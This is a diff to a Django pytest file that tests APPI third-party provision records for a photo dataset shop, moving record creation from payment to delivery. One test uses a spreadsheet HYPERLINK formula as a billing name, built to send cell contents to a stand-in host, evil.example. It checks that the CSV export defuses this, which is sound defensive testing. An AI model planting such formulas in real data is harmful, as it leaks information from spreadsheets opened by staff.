@@ -1,4 +1,4 @@
-"""Third-party provision records (APPI): one per subject per paid line, kept three years."""
+"""Third-party provision records (APPI): one per subject per delivered line, kept three years."""
 
 from __future__ import annotations
 
@@ -21,10 +21,30 @@ from stockdata.accounts.tests.factories import BuyerFactory, StaffFactory
 pytestmark = pytest.mark.django_db
 
 
-def paid_order(*datasets):
-    order = buy(BuyerFactory(), *datasets)
-    commerce_services.order_mark_paid(order=order, provider="bank_transfer", amount=order.total)
-    return order
+def consented_dataset(photos: int, **kwargs):
+    """A published dataset whose version's people all signed approved releases, with real image files,
+    so its bundle can be built and delivered."""
+    from catalog.tests.factories import build_version
+    from licensing.delivery.tests.test_bundles import grant_consent, store_cleaned
+
+    dataset = DatasetFactory(version=False, **kwargs)
+    version = build_version(dataset, photos=photos, seed=photos, consent=grant_consent)
+    store_cleaned(version)
+    dataset.refresh_from_db()
+    return dataset
+
+
+@pytest.fixture
+def paid_order(django_capture_on_commit_callbacks):
+    """Buy and pay; the bundles are built (eager tasks) once the payment commits: delivery writes the records."""
+
+    def pay(*datasets, **overrides):
+        order = buy(BuyerFactory(), *datasets, **overrides)
+        with django_capture_on_commit_callbacks(execute=True):
+            commerce_services.order_mark_paid(order=order, provider="bank_transfer", amount=order.total)
+        return order
+
+    return pay
 
 
 def expected_subjects(line) -> dict[str, list[str]]:
@@ -35,8 +55,8 @@ def expected_subjects(line) -> dict[str, list[str]]:
     return out
 
 
-def test_every_subject_of_every_paid_line_has_a_record():
-    order = paid_order(DatasetFactory(version__photos=4), DatasetFactory(version__photos=3))
+def test_every_subject_of_every_paid_line_has_a_record(paid_order):
+    order = paid_order(consented_dataset(4), consented_dataset(3))
     for line in order.lines.all():
         expected = expected_subjects(line)
         records = {r.subject_id: r for r in ProvisionRecord.objects.filter(order_line=line)}
@@ -50,16 +70,18 @@ def test_every_subject_of_every_paid_line_has_a_record():
             assert record.consent_basis["scopes"] == ["ai_training", "publication"]
 
 
-def test_records_are_created_once_per_line():
-    order = paid_order(DatasetFactory(version__photos=2))
+def test_records_are_created_once_per_line(paid_order):
+    order = paid_order(consented_dataset(2))
     line = order.lines.get()
     count = ProvisionRecord.objects.filter(order_line=line).count()
-    assert consent_services.provision_records_create(line=line) == 0
+    assert count == 2
+    files = line.version.items.values_list("file_name", flat=True)
+    assert consent_services.provision_records_create(line=line, files=files) == 0
     assert ProvisionRecord.objects.filter(order_line=line).count() == count
 
 
-def test_records_cannot_be_deleted_before_retention_ends(monkeypatch):
-    paid_order(DatasetFactory(version__photos=2))
+def test_records_cannot_be_deleted_before_retention_ends(monkeypatch, paid_order):
+    paid_order(consented_dataset(2))
     record = ProvisionRecord.objects.first()
     with pytest.raises(ProvisionRecordRetained):
         record.delete()
@@ -77,8 +99,8 @@ def test_records_cannot_be_deleted_before_retention_ends(monkeypatch):
     assert not ProvisionRecord.objects.filter(pk=record.pk).exists()
 
 
-def test_staff_search_records_by_subject_and_export_csv(client):
-    paid_order(DatasetFactory(version__photos=2))
+def test_staff_search_records_by_subject_and_export_csv(client, paid_order):
+    paid_order(consented_dataset(2))
     record = ProvisionRecord.objects.first()
     client.force_login(StaffFactory())
     page = client.get(reverse("licensing:provision_records"), {"subject": record.subject_id}).content.decode()
@@ -91,14 +113,21 @@ def test_staff_search_records_by_subject_and_export_csv(client):
     assert client.get(reverse("licensing:provision_records")).status_code == 404
 
 
-def test_the_subject_sees_who_received_their_photos():
-    from licensing.consent.tests.factories import make_release
-    from stockdata.accounts.tests.factories import ContributorFactory
+def test_the_subject_sees_who_received_their_photos(paid_order):
+    from catalog.tests.factories import build_version
+    from licensing.delivery.tests.test_bundles import grant_consent, store_cleaned
 
-    release = make_release(ContributorFactory(), approve_by=StaffFactory())
+    made = {}
+
+    def consent(photos):
+        made.update(grant_consent(photos))
+        return made
+
+    dataset = DatasetFactory(version=False)
+    store_cleaned(build_version(dataset, photos=1, consent=consent))
+    dataset.refresh_from_db()
+    release = next(iter(made.values()))[0]
     assert selectors.subject_photo_recipients(release) == []
-    # The version is frozen naming this release for the first person in its photo.
-    dataset = DatasetFactory(version__photos=1, version__consent=lambda photos: {photos[0].pk: [release]})
     assert dataset.latest_version.items.get().subjects[0]["release_id"] == release.pk
     order = paid_order(dataset)
     record = ProvisionRecord.objects.get(subject_id=release.subject_id)
@@ -108,14 +137,13 @@ def test_the_subject_sees_who_received_their_photos():
     ]
 
 
-def test_csv_injection_staff_provision_records_csv_defuses_a_formula_billing_name(client):
+def test_csv_injection_staff_provision_records_csv_defuses_a_formula_billing_name(client, paid_order):
     """A buyer's billing name that a spreadsheet would run as a formula comes out as text."""
     import csv
     import io
 
     hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Open record")'
-    order = buy(BuyerFactory(), DatasetFactory(version__photos=1), billing_name=hyperlink)
-    commerce_services.order_mark_paid(order=order, provider="bank_transfer", amount=order.total)
+    order = paid_order(consented_dataset(1), billing_name=hyperlink)
     records = list(ProvisionRecord.objects.filter(order_line__order=order).order_by("pk"))
     assert records and {r.recipient_name for r in records} == {hyperlink}  # stored as the buyer typed it
     record = records[0]
